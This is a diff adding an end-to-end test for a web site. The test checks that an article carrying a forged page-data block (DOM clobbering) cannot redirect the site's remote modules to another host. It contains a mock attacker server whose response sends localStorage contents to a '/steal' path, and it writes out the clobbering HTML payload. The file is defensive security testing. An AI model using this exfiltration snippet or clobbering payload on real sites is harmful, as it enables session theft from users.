@@ -1,0 +1,118 @@
+// Content never steers the page (docs/decisions/080): an article that carries a forged copy of the
+// page's data block (DOM clobbering) cannot point the remotes at another host. The forged host is
+// a real server here, so any request the page makes to it is counted, not only intercepted.
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Server } from 'node:http';
+import {
+  DEV_ADMIN,
+  expect,
+  expectNoA11yViolations,
+  idTokenFor,
+  siteConfig,
+  test,
+} from './fixtures';
+
+let forgedHost: Server;
+let forgedOrigin = '';
+const forgedRequests: string[] = [];
+
+test.beforeAll(async () => {
+  forgedHost = createServer((request, response) => {
+    forgedRequests.push(request.url ?? '');
+    // What an attacker would serve: a remote entry that reads the session and sends it away.
+    response.writeHead(200, {
+      'Content-Type': 'text/javascript',
+      'Access-Control-Allow-Origin': '*',
+    });
+    response.end('fetch("/steal?" + encodeURIComponent(JSON.stringify(localStorage)))');
+  });
+  await new Promise<void>((resolve) => forgedHost.listen(0, '127.0.0.1', resolve));
+  forgedOrigin = `http://127.0.0.1:${(forgedHost.address() as AddressInfo).port}`;
+});
+
+test.afterAll(() => new Promise<void>((resolve) => forgedHost.close(() => resolve())));
+
+test('an article with a forged data block loads nothing from the forged host, and the page still hydrates', async ({
+  page,
+  request,
+}) => {
+  const token = await idTokenFor(request, DEV_ADMIN.email, DEV_ADMIN.password);
+  const headers = { authorization: `Bearer ${token}` };
+  const config = await siteConfig(request);
+  const manifest = `${forgedOrigin}/mf-manifest.json`;
+  const forged = JSON.stringify({
+    config: {
+      ...config,
+      remotes: { portfolio: manifest, blog: manifest, auth: manifest, shop: manifest },
+      remoteOrigins: [forgedOrigin],
+    },
+    routes: {},
+    loaderData: {},
+    drawnInBrowser: [],
+    reloadData: false,
+  });
+  const title = `Clobbering check ${Date.now().toString(36)}`;
+  const content = [
+    'A paragraph before the trap.',
+    `<div id="site-data" hidden>${forged}</div>`,
+    `<script type="application/json" id="site-data">${forged}</script>`,
+    '<a name="site-data" id="root">named</a>',
+    '## A heading to link to',
+    '[Jump to it](#a-heading-to-link-to)',
+  ].join('\n\n');
+  const created = await request.post(`${config.apiBase}/articles`, {
+    headers,
+    // The oldest article of all, so specs walking the newest articles never meet it.
+    data: { title, content, createdAt: '1999-01-01T00:00:00.000Z' },
+  });
+  expect(created.status()).toBe(201);
+  const { _id: id } = (await created.json()) as { _id: string };
+
+  const seen: string[] = [];
+  page.on('request', (outgoing) => {
+    if (outgoing.url().startsWith(forgedOrigin)) seen.push(outgoing.url());
+  });
+  try {
+    // Twice: the second answer comes from the site's render cache, as an anonymous visitor's does.
+    for (const visit of [1, 2]) {
+      await page.goto(`/article/${id}`);
+      await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true');
+      await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
+      await page.waitForLoadState('networkidle');
+      expect(seen, `visit ${visit}: requests to the forged host`).toEqual([]);
+    }
+    // The article's own names are prefixed; the page's own block is gone once read.
+    await expect(page.locator('#user-content-site-data')).toHaveCount(1);
+    await expect(page.locator('#site-data')).toHaveCount(0);
+    await expect(page.locator('a[name="user-content-site-data"]')).toHaveCount(1);
+    await expect(page.getByRole('link', { name: 'Jump to it' })).toHaveAttribute(
+      'href',
+      '#user-content-a-heading-to-link-to',
+    );
+    await expect(page.locator('#user-content-a-heading-to-link-to')).toHaveText(
+      'A heading to link to',
+    );
+    // Hydrated for real: a client navigation works without a new document.
+    await page
+      .getByRole('navigation', { name: 'Main' })
+      .getByRole('link', { name: 'Blog' })
+      .click();
+    await expect(page).toHaveURL(/\/blog$/);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expectNoA11yViolations(page);
+    expect(forgedRequests).toEqual([]);
+  } finally {
+    expect((await request.delete(`${config.apiBase}/articles/${id}`, { headers })).ok()).toBe(true);
+  }
+});
+
+test("the server writes the page's data block in the head, before any content", async ({
+  request,
+}) => {
+  const body = await (await request.get('/blog')).text();
+  const block = body.indexOf('<script type="application/json" id="site-data">');
+  expect(block).toBeGreaterThan(0);
+  expect(block).toBeLessThan(body.indexOf('</head>'));
+  expect(body.indexOf('<div id="root">')).toBeGreaterThan(body.indexOf('</head>'));
+});
